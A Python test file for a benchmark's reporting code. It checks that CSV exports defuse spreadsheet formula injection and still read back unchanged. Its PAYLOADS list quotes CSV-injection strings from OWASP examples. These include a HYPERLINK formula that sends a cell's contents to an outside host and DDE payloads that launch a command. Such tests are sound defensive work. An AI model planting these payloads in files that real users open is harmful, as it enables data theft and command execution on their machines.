"""What is written as CSV is no formula in a spreadsheet, and can be read back as it was."""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterable
from dataclasses import replace
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from reldrop_bench import leaderboard
from reldrop_bench.cli import main
from reldrop_bench.kinds.section import Table
from reldrop_bench.reporting import Report
from reldrop_bench.reporting.csv_text import csv_text, defused, read_csv, restored
from reldrop_bench.results import Results

Make = Callable[..., Results]
# The characters that OWASP's page on CSV injection lists, and the payloads of its examples.
TRIGGERS = "=+-@\t\r\n＝＋－＠"
PAYLOADS = (
    '=HYPERLINK("http://example.com?x="&A1,"Error")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "+0.5 [x, y]",
    "\t=1+1",
    "＝1+1",
)
HARMLESS = (
    "-0.5",
    "+0.031 [-0.010, +0.072]",
    "-1e-05",
    "+3",
    "-0.001 ± 0.002 (n=2/3)",
    "+0.5 [no interval]",
)


def formulas(rows: Iterable[Iterable[str]]) -> list[str]:
    """Return the cells that a spreadsheet would compute; a plain number is its own value."""

    def is_number(text: str) -> bool:
        try:
            float(text.partition(" [")[0].partition(" ±")[0])
        except ValueError:
            return False
        return "cmd" not in text

    return [
        cell
        for row in rows
        for cell in row
        if cell[:1] in TRIGGERS and cell and not is_number(cell)
    ]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formulas_get_an_apostrophe(text: str) -> None:
    assert defused(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_stay_numbers(text: str) -> None:
    assert defused(text) == text


@given(st.text(st.sampled_from("'=+-@\t\r\n＝ab1. ,\""), max_size=6))
def test_every_text_comes_back(text: str) -> None:
    assert restored(defused(text)) == text


def test_a_table_comes_back_with_its_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"label": [*PAYLOADS, "plain"], "=x": np.linspace(-1, 1, 9), "on": True})
    path = tmp_path / "table.csv"
    path.write_bytes(csv_text(frame).encode())
    pd.testing.assert_frame_equal(read_csv(path), frame, check_column_type=False, check_dtype=False)
    assert csv_text(frame.drop(columns="=x")).splitlines()[0] == "label,on"
    assert pd.read_csv(path)["'=x"].tolist() == frame["=x"].tolist()
    assert csv_text(pd.DataFrame()) == "\n"


def test_no_file_of_a_report_holds_a_formula(make_results: Make, tmp_path: Path) -> None:
    labels = ("none", *PAYLOADS[:3])
    results = make_results(
        labels=labels, tasks=("digits",), seeds=2, failed=(("digits", labels[2], 0),), error="=1+1"
    )
    results = replace(results, remarks=("-2+3",))
    sections = ["verdict", "accuracy", "shifts", "failures", "completeness", "significance"]
    Report(results, sections=sections).write(tmp_path, ["html", "csv", "parquet"])
    files = sorted(tmp_path.rglob("*.csv"))
    assert len(files) > 12
    for path in files:
        with path.open(encoding="utf-8", newline="") as file:
            assert formulas(csv.reader(file)) == [], path.name
    assert set(read_csv(tmp_path / "data" / "cells.csv")["label"]) == set(labels)
    assert set(pq.read_table(tmp_path / "data" / "cells.parquet")["label"].to_pylist()) == set(
        labels
    )


def test_merged_sets_and_leaderboards_keep_such_labels(
    make_set: Callable[..., Path], tmp_path: Path
) -> None:
    label = PAYLOADS[0]
    spec = {"regularizers": ["none", {"name": "cutout", "label": label}]}
    sets = [make_set(name, **spec, seeds=[seed]) for name, seed in (("a", 0), ("b", 1))]
    with pytest.raises(SystemExit) as stop:
        main(["merge", *map(str, sets), "--output", str(tmp_path / "both")])
    assert stop.value.code == 0
    leaderboard([tmp_path / "both"], tmp_path / "board")
    path = tmp_path / "board" / "leaderboard.csv"
    assert label in set(read_csv(path)["label"])
    with path.open(encoding="utf-8", newline="") as file:
        assert formulas(csv.reader(file)) == []


def test_a_table_of_a_section_is_defused_where_its_columns_are_labels() -> None:
    table = Table("t", "T.", pd.DataFrame({"label": ["=1"], "=1": ["+0.1 [-0.1, +0.3]"]}))
    assert csv_text(table.frame) == "label,'=1\n'=1,\"+0.1 [-0.1, +0.3]\"\n"
